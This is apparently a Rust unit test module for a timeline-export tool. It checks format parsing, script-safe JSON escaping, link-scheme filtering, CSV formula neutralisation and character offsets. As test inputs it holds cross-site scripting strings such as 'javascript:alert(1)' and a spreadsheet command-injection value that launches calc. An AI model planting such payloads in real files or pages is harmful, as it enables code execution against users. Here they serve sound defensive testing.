        let e = "xml".parse::<Format>().unwrap_err();
        assert!(
            e.contains("markdown, html, timelinejs or timelinejs-csv"),
            "{e}"
        );
        assert_eq!(Format::parse_rows("json"), Ok(Format::Json));
        let e = Format::parse_rows("html").unwrap_err();
        assert_eq!(
            e,
            "unknown format \"html\": expected jsonl, csv, table or json"
        );
    }

    #[test]
    fn json_in_script_cannot_close_the_element() {
        let s = json_for_script(&"</script><!-- & \u{2028}").unwrap();
        assert!(
            !s.contains('<') && !s.contains('>') && !s.contains('&'),
            "{s}"
        );
        let back: String = serde_json::from_str(&s).unwrap();
        assert_eq!(back, "</script><!-- & \u{2028}");
    }

    #[test]
    fn links_only_to_web_urls() {
        assert_eq!(link_url(Some("https://e.org/x")), Some("https://e.org/x"));
        assert_eq!(link_url(Some("javascript:alert(1)")), None);
        assert_eq!(link_url(Some("JaVaScRiPt:alert(1)")), None);
        assert_eq!(link_url(Some("data:text/html,x")), None);
        assert_eq!(link_url(Some("https://e.org/a b")), None);
        assert_eq!(link_url(None), None);
    }

    #[test]
    fn csv_cells_never_start_formulas() {
        assert_eq!(csv_safe("=1+2"), "'=1+2");
        assert_eq!(csv_safe("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_safe("-12.5"), "-12.5");
        assert_eq!(csv_safe("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
        assert_eq!(csv_safe("Japan"), "Japan");
    }

    #[test]
    fn timex_offsets_are_chars() {
        let text = "“Tokyo’s” plan on 2 April 2023";
        let start = text.find("2 April").unwrap();
        let t = Timex {
            start,
            end: text.len(),
            text: "2 April 2023".into(),
            kind: crate::temporal::TimexKind::Date,
            value: "2023-04-02".into(),
            modifier: None,
            span: None,
            anchored: false,
        };
        let mut out = Vec::new();
        write_timexes(text, &[t], &mut out).unwrap();
        let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
        let chars: Vec<char> = text.chars().collect();
        let s = v["start"].as_u64().unwrap() as usize;
        let e = v["end"].as_u64().unwrap() as usize;
        assert_eq!(chars[s..e].iter().collect::<String>(), "2 April 2023");
    }
}
